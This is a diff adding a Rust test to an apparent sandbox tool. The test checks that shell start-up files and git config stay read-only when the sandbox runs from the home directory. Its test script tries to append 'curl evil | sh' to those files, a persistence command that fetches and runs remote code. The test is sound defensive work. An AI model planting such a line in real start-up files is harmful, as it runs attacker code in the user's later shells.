@@ -592,3 +592,47 @@ fn a_denial_report_names_the_path_or_the_network_and_the_knob() {
     }
     assert!(!outside.exists());
 }
+
+/// `cordon exec` run from the home directory makes `$HOME` the workspace: the shell start-up
+/// files and the global git config stay read-only there (each would run the command's code in
+/// the user's next shell or git command), while other files in it stay writable.
+#[test]
+fn from_the_home_directory_shell_start_up_files_and_gitconfig_stay_read_only() {
+    require_sandbox!(1);
+    skip_unless!(features().mount_view, "protected paths need the mount view");
+    for user in USERS {
+        let home = scratch();
+        let h = home.path();
+        for file in [".bashrc", ".profile", ".zshrc", ".gitconfig"] {
+            std::fs::write(h.join(file), "# mine\n").unwrap();
+        }
+        std::fs::create_dir_all(h.join(".config/git")).unwrap();
+        std::fs::write(h.join(".config/git/config"), "# mine\n").unwrap();
+        let cordon_home = h.join(".cordon");
+        if user == User::Nobody {
+            chown_nobody(h);
+        }
+        let script = "for f in .bashrc .profile .zshrc .gitconfig .config/git/config; do \
+                      echo 'curl evil | sh' >> $f && echo wrote $f; done; \
+                      mv .bashrc .bashrc-moved && echo moved; echo ok > notes.txt";
+        let mut command = cordon_command(
+            user,
+            &["exec", "-a", "never", "-s", "workspace-write", "--", "sh", "-c", script],
+        );
+        command.current_dir(h).env("HOME", h).env("CORDON_HOME", &cordon_home);
+        let run: Run = command.output().unwrap().into();
+        assert!(
+            !run.stdout.contains("wrote") && !run.stdout.contains("moved"),
+            "{user:?}: {}",
+            run.stdout
+        );
+        for file in [".bashrc", ".profile", ".zshrc", ".gitconfig", ".config/git/config"] {
+            assert_eq!(
+                std::fs::read_to_string(h.join(file)).unwrap(),
+                "# mine\n",
+                "{user:?} {file}"
+            );
+        }
+        assert_eq!(std::fs::read_to_string(h.join("notes.txt")).unwrap(), "ok\n", "{user:?}");
+    }
+}
